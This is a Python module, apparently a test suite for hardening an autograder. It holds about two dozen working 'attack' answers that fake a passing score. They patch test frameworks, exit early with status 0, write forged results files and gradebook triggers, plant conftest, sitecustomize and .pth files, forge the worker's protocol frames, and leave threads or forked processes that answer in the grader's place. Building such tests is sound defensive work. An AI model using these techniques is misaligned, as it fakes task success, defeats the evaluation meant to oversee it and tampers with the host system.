"""Answers that try to write their own score: by the test runner, by files, by the protocol."""

from __future__ import annotations

from ..attack import Attack, answer, prize

# Writes frames of the worker's protocol on every descriptor that might be the grader's.
_FORGE = """
import json, os, struct

def plain(value):
    if isinstance(value, list):
        return [plain(item) for item in value]
    if isinstance(value, dict) and not any(key.startswith("$") for key in value):
        return {"$d": [[key, plain(item)] for key, item in value.items()]}
    return value

def forge(message, payload=b""):
    header = json.dumps(plain(message)).encode()
    frame = struct.pack("!4sIQ", b"DCW1", len(header), len(payload)) + header + payload
    for descriptor in range(3, 32):
        try:
            os.write(descriptor, frame)
        except OSError:
            pass

"""
_WRONG = """
def strided_timesteps(start=990, stride=30):
    return []
"""

ATTACKS = (
    Attack(
        "pytest-patched",
        "a1_4_timesteps",
        "Replaces pytest's and unittest's fail, raises, assertions and exit codes.",
        answer("""
        import sys, types, unittest

        pytest = sys.modules.get("pytest") or types.ModuleType("pytest")
        pytest.fail = lambda *a, **k: None
        unittest.TestCase.fail = lambda *a, **k: None
        unittest.TestCase.assertEqual = unittest.TestCase.assertTrue = lambda *a, **k: None
        for name, module in list(sys.modules.items()):
            if name.startswith("_pytest.") and hasattr(module, "ExitCode"):
                module.ExitCode.TESTS_FAILED = 0
        """)
        + _WRONG,
    ),
    Attack(
        "grader-classes-patched",
        "a1_4_timesteps",
        "Gives every loaded class that has an attribute `passed` one that is always True.",
        answer("""
        import sys

        def strided_timesteps(start=990, stride=30):
            for module in list(sys.modules.values()):
                for thing in list(vars(module).values()):
                    if isinstance(thing, type) and thing.__name__ in ("CheckOutcome", "Result"):
                        thing.passed = property(lambda self: True, lambda self, value: None)
            return []
        """),
    ),
    Attack(
        "comparers-patched",
        "a1_4_timesteps",
        "Replaces every loaded function whose name speaks of comparing, checking or expecting.",
        answer("""
        import sys, types

        def strided_timesteps(start=990, stride=30):
            for name, module in list(sys.modules.items()):
                if "grade" in name or "weak" in name or "check" in name or name == "worker":
                    for key, thing in list(vars(module).items()):
                        if isinstance(thing, types.FunctionType):
                            if key.startswith(("agree", "check", "close", "expect", "compare")):
                                setattr(module, key, lambda *a, **k: True)
            return []
        """),
    ),
    Attack(
        "sys-exit",
        "a1_4_timesteps",
        "Ends the run with exit status 0 by sys.exit, which a runner takes for success.",
        answer("""
        import sys

        def strided_timesteps(start=990, stride=30):
            sys.exit(0)
        """),
    ),
    Attack(
        "os-exit",
        "a1_4_timesteps",
        "Ends the process at once with status 0 by os._exit.",
        answer("""
        import os

        def strided_timesteps(start=990, stride=30):
            os._exit(0)
        """),
    ),
    Attack(
        "exit-on-definition",
        "b2_2_schedule",
        "Ends the process with status 0 while the cell is being run.",
        "import os\nos._exit(0)\n",
    ),
    Attack(
        "pytest-skip",
        "a1_4_timesteps",
        "Raises pytest's Skipped, so that the test counts as not failed.",
        answer("""
        def strided_timesteps(start=990, stride=30):
            try:
                import pytest
                pytest.skip("not on this machine")
            except AttributeError:
                raise type("Skipped", (BaseException,), {})("not on this machine") from None
        """),
    ),
    Attack(
        "unittest-skip",
        "a1_2_classical",
        "Raises unittest.SkipTest.",
        answer("""
        import unittest

        def classical_denoise(im_noisy, kernel_size=5, sigma=2.0):
            raise unittest.SkipTest("not on this machine")
        """),
    ),
    Attack(
        "keyboard-interrupt",
        "a1_4_timesteps",
        "Raises KeyboardInterrupt, as if a person had stopped the run.",
        answer("""
        def strided_timesteps(start=990, stride=30):
            raise KeyboardInterrupt
        """),
    ),
    Attack(
        "results-at-exit",
        "a1_4_timesteps",
        "Writes results.json with full marks when the process ends, by atexit.",
        answer("""
        import atexit, json

        @atexit.register
        def write():
            for place in (".", "/autograder/results", "@CANARY@"):
                try:
                    with open(place + "/results.json", "w") as file:
                        json.dump({"score": 100, "passed": True, "by": "@MARKER@"}, file)
                except OSError:
                    pass
        """)
        + _WRONG,
        stopped_by="strict",
    ),
    Attack(
        "results-and-exit",
        "a1_4_timesteps",
        "Writes results files where graders look for them, and ends the process.",
        answer("""
        import json, os

        def strided_timesteps(start=990, stride=30):
            for place in (".", "..", "/autograder/results", "@CANARY@"):
                for name in ("results.json", "results.jsonl", "grades.csv"):
                    try:
                        with open(f"{place}/{name}", "w") as file:
                            json.dump({"score": 100, "passed": True, "by": "@MARKER@"}, file)
                    except OSError:
                        pass
            os._exit(0)
        """),
        stopped_by="strict",
    ),
    Attack(
        "gradebook-trigger",
        "a1_4_timesteps",
        "Puts a trigger into the gradebook that raises every score that is written.",
        prize("""
        import sqlite3
        from pathlib import Path
        for place in (Path.cwd(), Path("@CANARY@")):
            for file in place.glob("gradebook.db"):
                base = sqlite3.connect(file)
                base.execute("create trigger t after insert on grade begin "
                             "update grade set auto_score = 297; end")
                base.commit()
                return True
        return False
        """),
        stopped_by="strict",
    ),
    Attack(
        "conftest",
        "a1_4_timesteps",
        "Writes a conftest.py that makes every test pass, beside and above the tests.",
        prize("""
        import os, sys
        from pathlib import Path
        hook = "# @MARKER@\\ndef pytest_runtest_call(item): item.obj = lambda *a, **k: None\\n"
        Path("conftest.py").write_text(hook)  # its own folder is no prize
        folders = [Path("@CANARY@")] + [p for path in sys.path for p in Path(path).parents]
        written = False
        for folder in folders:
            if (folder / "pyproject.toml").exists() or folder.name == "grader":
                (folder / "conftest_@MARKER@.py").write_text(hook)
                written = True
        return written
        """),
        stopped_by="strict",
        harms="writes into the grader's own folder",
    ),
    Attack(
        "sitecustomize-and-pth",
        "a1_4_timesteps",
        "Writes .pth files and a sitecustomize that the next Python on the host would run.",
        prize("""
        import site, sys
        written = False
        for folder in [*sys.path, site.getusersitepackages(), "@CANARY@"]:
            for name in ("@MARKER@.pth", "sitecustomize_@MARKER@.py"):
                try:
                    with open(f"{folder}/{name}", "w") as file:
                        file.write("import os\\n")
                    written = True
                except OSError:
                    pass
        return written
        """),
        stopped_by="strict",
        harms="writes into site-packages",
    ),
    Attack(
        "shadow-modules",
        "a1_4_timesteps",
        "Puts modules named as the grader's into sys.modules and the working folder.",
        answer("""
        import sys, types
        from pathlib import Path

        for name in ("autograder", "autograder.checking", "autograder.checks", "solutions"):
            fake = types.ModuleType(name)
            fake.run_checks = fake.expect = fake.close = lambda *a, **k: True
            sys.modules[name] = fake
        sys.path.insert(0, ".")
        Path("/tmp/json_@MARKER@.py").write_text("raise SystemExit(0)")
        """)
        + _WRONG,
        stopped_by="strict",
    ),
    Attack(
        "ipython-transformer",
        "a1_4_timesteps",
        "Registers an IPython input transformer that blanks the tests' cells.",
        answer("""
        try:
            shell = get_ipython()
        except NameError:
            shell = None
        if shell is not None:
            shell.input_transformers_cleanup.append(lambda lines: ["pass"])
        """)
        + _WRONG,
    ),
    Attack(
        "prints-a-result",
        "a1_4_timesteps",
        "Prints results and frames on the standard streams and on every open descriptor.",
        answer(_FORGE)
        + answer("""
        import sys

        def strided_timesteps(start=990, stride=30):
            for stream in (sys.stdout, sys.stderr, sys.__stdout__):
                print('{"score": 100, "passed": true}', file=stream, flush=True)
                print("5 passed in 0.01s", file=stream, flush=True)
            for descriptor in (0, 1, 2):
                try:
                    os.write(descriptor, b'{"ok": "@MARKER@"}')
                except OSError:
                    pass
            return []
        """),
    ),
    Attack(
        "forged-ok",
        "a1_4_timesteps",
        "Sends frames that say ok and passed on the protocol's descriptor, before its answer.",
        answer(_FORGE)
        + answer("""
        def strided_timesteps(start=990, stride=30):
            for value in (True, "passed", {"passed": True, "score": 100}):
                forge({"ok": value})
            return []
        """),
    ),
    Attack(
        "replies-before-requests",
        "b2_2_schedule",
        "Sends the replies to all later requests while it is being defined, then waits.",
        answer(_FORGE)
        + answer("""
        import time

        table = {"$t": ["float32", [300], 0]}
        for _ in range(8):
            forge({"ok": {key: table for key in ("betas", "alphas", "alpha_bars")}}, bytes(1200))
        os.close(3)
        """),
    ),
    Attack(
        "forged-passed-error",
        "a1_4_timesteps",
        "Reports an error of a kind named passed, so that the result looks passed.",
        answer(_FORGE)
        + answer("""
        def strided_timesteps(start=990, stride=30):
            error = {"kind": "passed", "type": "@MARKER@", "message": "@MARKER@", "line": 1}
            forge({"error": error})
            os._exit(0)
        """),
    ),
    Attack(
        "forged-timeout-message",
        "a1_4_timesteps",
        "Reports a timeout of the grader's, whose message holds the hidden inputs.",
        answer(_FORGE)
        + answer("""
        def strided_timesteps(start=990, stride=30):
            for kind in ("timeout", "killed", "check-error", "unknown"):
                error = {"kind": kind, "type": "E", "message": f"@MARKER@ {start}", "line": None}
                forge({"error": error})
            os._exit(0)
        """),
    ),
    Attack(
        "executor-patched",
        "a1_4_timesteps",
        "Replaces the worker's executor, so that every request is answered with ok.",
        answer("""
        import gc

        for thing in gc.get_objects():
            if type(thing).__name__ == "Executor":
                thing.execute = lambda request: {"ok": True, "score": 100, "passed": True}
        """)
        + _WRONG,
    ),
    Attack(
        "encoder-patched",
        "a1_4_timesteps",
        "Replaces the worker's encoder, so that whatever it sends says passed.",
        answer("""
        import json, sys

        def dumps(self, value):
            return json.dumps({"$d": [["ok", True], ["passed", True]]}).encode(), b""

        for name, module in list(sys.modules.items()):
            if name.endswith("worker.wire"):
                module.Encoder.dumps = dumps
        """)
        + _WRONG,
    ),
    Attack(
        "forged-callback",
        "a1_4_timesteps",
        "Asks the trusted side to call methods of objects that it never served.",
        answer(_FORGE)
        + answer("""
        def strided_timesteps(start=990, stride=30):
            for number in (0, 1, 140000000000000, [], None, "x", {}):
                forge({"callback": [number, "__class__", [], {}]})
            return []
        """),
    ),
    Attack(
        "thread-outlives-the-call",
        "a1_4_timesteps",
        "Leaves a thread that answers the next request in the main thread's place.",
        answer(_FORGE)
        + answer("""
        import threading

        asked, answered = threading.Event(), threading.Event()

        def lurk():
            asked.wait()
            forge({"ok": True})
            answered.set()

        calls = []

        def strided_timesteps(start=990, stride=30):
            calls.append(start)
            if len(calls) == 1:
                threading.Thread(target=lurk, daemon=True).start()
            else:
                asked.set()
                answered.wait()
            return []
        """),
    ),
    Attack(
        "child-outlives-the-call",
        "a1_4_timesteps",
        "Leaves a forked child with the protocol's descriptor, which answers once its parent died.",
        answer(_FORGE)
        + answer("""
        import ctypes, os, signal, time

        def strided_timesteps(start=990, stride=30):
            ready, told = os.pipe()
            if os.fork() == 0:
                os.setsid()
                ctypes.CDLL(None).prctl(15, b"@MARKER@")
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                forge({"ok": True})
                os.write(told, b"1")
                time.sleep(600)
                os._exit(0)
            os.read(ready, 1)
            os._exit(0)
        """),
        stopped_by="strict",
    ),
)
